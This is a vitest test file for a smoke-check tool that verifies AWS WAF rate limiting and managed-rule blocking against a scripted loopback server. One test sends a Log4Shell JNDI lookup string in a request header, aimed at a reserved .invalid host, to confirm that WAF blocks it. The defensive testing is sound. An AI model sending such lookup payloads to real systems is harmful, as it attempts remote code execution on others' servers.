/**
 * `--check-waf` against a deployment with WAF in front (`wafInFront`), played
 * by a scripted server on loopback: the burst goes past the Lambda's
 * in-process 429s until WAF's own, and fails on a WAF answer that names the
 * wrong policy, on a 429 without Retry-After, and when WAF never answers; the
 * managed-rule probe wants WAF's block as API Gateway's WAF_FILTERED response answers it.
 */
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterEach, describe, expect, it } from 'vitest';
import { SmokeContext, type SmokeCheck } from '../../../scripts/smoke/check';
import { edgeChecks } from '../../../scripts/smoke/edge-checks';
import { CheckFailure } from '../../../scripts/smoke/expectations';
import type { SmokeOptions } from '../../../scripts/smoke/options';

type Reply = { status: number; headers?: Record<string, string>; body: unknown };

let server: Server | undefined;
afterEach(() => new Promise<void>((resolve) => (server ? server.close(() => resolve()) : resolve())));

/** A deployment whose n-th request (from 1) gets `reply(n, request)`. */
async function deployment(reply: (n: number, request: IncomingMessage) => Reply): Promise<string> {
  let n = 0;
  server = createServer((request, response) => {
    const { status, headers = {}, body } = reply((n += 1), request);
    response.writeHead(status, { 'Content-Type': 'application/json', 'Cache-Control': 'no-store', ...headers }).end(JSON.stringify(body));
  });
  await new Promise<void>((resolve) => server!.listen(0, '127.0.0.1', resolve));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`;
}

const healthy = (): Reply => ({ status: 200, headers: { 'X-Request-Id': 'r-ok' }, body: { ok: true, data: { status: 'ok', version: 'v1' }, request_id: 'r-ok' } });
const rateLimited = (requestId: string, policy: string, retryAfter = '60'): Reply => ({
  status: 429,
  headers: { 'X-Request-Id': requestId, 'X-RateLimit-Policy': policy, ...(retryAfter ? { 'Retry-After': retryAfter } : {}) },
  body: { ok: false, error: { code: 'RATE_LIMITED', message: 'Wait.' }, request_id: requestId },
});

function options(baseUrl: string, overrides: Partial<SmokeOptions> = {}): SmokeOptions {
  return { baseUrl, key: `pak_live_${'0'.repeat(64)}`, checkWaf: true, wafInFront: true, timeoutMs: 5000, burstDeadlineMs: 60_000, burstRate: 40, ...overrides };
}

const check = (name: string): SmokeCheck => edgeChecks(false).find((c) => c.name === name)!;
const BURST = 'edge: a burst meets 429 (partner API)';
const MANAGED = 'edge: a managed rule blocks (partner API)';

/** The check's problems, or [] when it passed. */
async function problemsOf(name: string, opts: SmokeOptions): Promise<readonly string[]> {
  try {
    await check(name).run(new SmokeContext(opts));
    return [];
  } catch (error) {
    if (error instanceof CheckFailure) return error.problems;
    throw error;
  }
}

describe('--check-waf with WAF in front', () => {
  it('runs the managed-rule probes before the bursts, which leave the address refused', () => {
    expect(edgeChecks(true).map((c) => c.name)).toEqual([
      'edge: a managed rule blocks (partner API)',
      'edge: a managed rule blocks (web side)',
      'edge: the sign-in rule counts every spelling of the sign-in path (web side)',
      'edge: a burst meets 429 (partner API)',
      'edge: a burst meets 429 (web side)',
    ]);
  });

  it('bursts past the Lambda’s in-process 429s until WAF answers with its own (X-Request-Id edge, a WAF row’s policy)', async () => {
    const base = await deployment((n) => (n <= 30 ? healthy() : n <= 50 ? rateLimited(`r-${n}`, 'edge-ip-burst', '3') : rateLimited('edge', 'edge-ip-minute')));

    const outcome = await check(BURST).run(new SmokeContext(options(base)));

    expect(outcome.status).toBe('pass');
    expect(outcome.detail).toMatch(/^429 RATE_LIMITED from WAF: policy edge-ip-minute, Retry-After 60, after \d+ requests/);
    expect(Number(/after (\d+) requests/.exec(outcome.detail)![1])).toBeGreaterThan(50);
  });

  it('fails when WAF’s 429 names a policy that is no WAF row of the surface', async () => {
    const base = await deployment(() => rateLimited('edge', 'edge-ip-burst'));
    expect(await problemsOf(BURST, options(base))).toEqual([
      'WAF answered 429 naming edge-ip-burst, not one of the partner WAF rows (edge-ip-minute, edge-credential-minute, edge-authentication-minute)',
    ]);
  });

  it('fails on an edge 429 without Retry-After', async () => {
    const base = await deployment(() => rateLimited('r-1', 'edge-ip-burst', ''));
    expect(await problemsOf(BURST, options(base))).toEqual(['Retry-After is absent, not an integer >= 1']);
  });

  it('fails when only the Lambda ever answers 429 until the deadline, asking whether the web ACL is associated', async () => {
    const base = await deployment((n) => (n <= 5 ? healthy() : rateLimited(`r-${n}`, 'edge-ip-burst', '1')));
    const [problem] = await problemsOf(BURST, options(base, { burstDeadlineMs: 1000 }));
    expect(problem).toMatch(/^no 429 from WAF within 1\.0 s and \d+ requests \(in-process 429s only: edge-ip-burst ×\d+\): is the partner API's web ACL associated with its stage/);
  });

  it('fails on an answer that is neither the request’s own nor a 429', async () => {
    const base = await deployment(() => ({ status: 403, headers: { 'X-Request-Id': 'edge' }, body: { ok: false, error: { code: 'REQUEST_BLOCKED', message: 'No.' }, request_id: 'edge' } }));
    expect(await problemsOf(BURST, options(base))).toContain('status 403, expected 429');
  });

  it('takes the local front’s first 429 when there is no WAF in front', async () => {
    const base = await deployment((n) => (n <= 3 ? healthy() : rateLimited(`r-${n}`, 'edge-ip-burst', '7')));
    const outcome = await check(BURST).run(new SmokeContext(options(base, { wafInFront: false })));
    expect(outcome.detail).toMatch(/^429 RATE_LIMITED from the local front, WAF's stand-in: policy edge-ip-burst, Retry-After 7/);
  });

  it('wants WAF’s block of a Log4Shell lookup in a header, answered by API Gateway’s WAF_FILTERED response, and sends the lookup', async () => {
    let probeHeader: string | undefined;
    const base = await deployment((_, request) => {
      probeHeader = request.headers['x-smoke-probe'] as string | undefined;
      return { status: 403, headers: { 'x-amzn-RequestId': 'apigw-1' }, body: { ok: false, error: { code: 'REQUEST_BLOCKED', message: 'Blocked.' }, request_id: 'apigw-1' } };
    });

    expect(await check(MANAGED).run(new SmokeContext(options(base)))).toEqual({ status: 'pass', detail: '403 REQUEST_BLOCKED from WAF, answered by API Gateway (Log4JRCE_HEADER)' });
    expect(probeHeader).toBe('${jndi:ldap://smoke.invalid/probe}');
  });

  it('fails the managed-rule probe when the request gets through, when the service answers it, or when the request ids disagree', async () => {
    let base = await deployment(() => healthy());
    expect(await problemsOf(MANAGED, options(base))).toContain('status 200, expected 403');
    await new Promise<void>((resolve) => server!.close(() => resolve()));

    // A 403 from the service itself (X-Request-Id): the block did not happen at the edge.
    base = await deployment(() => ({ status: 403, headers: { 'X-Request-Id': 'r-1', 'x-amzn-RequestId': 'r-1' }, body: { ok: false, error: { code: 'REQUEST_BLOCKED', message: 'No.' }, request_id: 'r-1' } }));
    expect(await problemsOf(MANAGED, options(base))).toEqual(['X-Request-Id is "r-1": the request reached the service, not blocked by WAF']);
    await new Promise<void>((resolve) => server!.close(() => resolve()));

    base = await deployment(() => ({ status: 403, headers: { 'x-amzn-RequestId': 'apigw-2' }, body: { ok: false, error: { code: 'REQUEST_BLOCKED', message: 'Blocked.' }, request_id: 'apigw-1' } }));
    expect(await problemsOf(MANAGED, options(base))).toEqual(['request_id "apigw-1" differs from x-amzn-requestid "apigw-2"']);
  });

  it('skips the managed-rule probe on the local stack, which has no managed groups', async () => {
    expect(await check(MANAGED).run(new SmokeContext(options('http://127.0.0.1:9/v1', { wafInFront: false })))).toEqual({
      status: 'skip',
      detail: 'the local stack has no AWS managed rule groups',
    });
  });
});
